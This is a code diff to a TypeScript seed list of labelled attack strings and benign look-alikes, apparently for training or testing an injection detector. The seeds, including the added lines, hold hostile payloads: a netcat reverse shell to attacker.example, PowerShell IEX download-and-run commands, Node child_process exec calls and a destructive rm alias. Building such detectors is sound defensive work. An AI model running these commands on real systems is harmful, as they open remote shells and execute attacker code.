@@ -59,6 +59,8 @@ const seeds: Record<Exclude<AttackLabel, "benign">, string[]> = {
     "eval(base64_decode('cGhwaW5mbygpOw=='))", "$_SERVER['HTTP_USER_AGENT']", "shell_exec /**/ ('id')", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
     "process.mainModule.require('child_process').execSync('id')", "FOR /F \"delims=\" %G IN ('whoami') DO @echo %G", "IF EXIST C:\\boot.ini echo found",
     "strace ifconfig", "nohup nc -e /bin/sh attacker.example 4444", "alias ls='rm -rf /tmp/x'",
+    // PowerShell fetching and running code; a command named as a call's bare argument.
+    "Invoke-WebRequest http://attacker.example/p.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')", "system(whoami)",
   ],
   prototype_pollution: [
     "__proto__[isAdmin]=true", "constructor[prototype][isAdmin]=true", "__proto__.polluted", "constructor.prototype.toString", "a[__proto__][x]=1",
@@ -120,7 +122,7 @@ const benign: string[] = [
   "unserialize the payload (JSON) first", "call (user) func", "the information_schema database lists tables", "alias for the user", "timeout 30 seconds",
   "https://localhost.example.com/", "Dear Sir/Madam, please find attached", "Q: what's 2*3? A: 6", "if (a < b) { return a; }", "<%= title %>", "${price}", "Tom's; Jerry's", "Meet me @ 5pm", "ID: 12-34-56",
   "Set an alert (daily)", "please confirm your email", "res.setTimeout(10000)", "$text = \"hi\"", "C:\\styles\\main.css", "<link rel=\"stylesheet\" href=\"/css/site.css\">",
-  "the information_schema database", "costs $in total",
+  "the information_schema database", "costs $in total", "the Invoke-WebRequest cmdlet is documented here", "our system(id card) policy",
 ];
 
 function urlEncodeAll(s: string): string { return [...Buffer.from(s)].map((b) => "%" + b.toString(16).toUpperCase().padStart(2, "0")).join(""); }
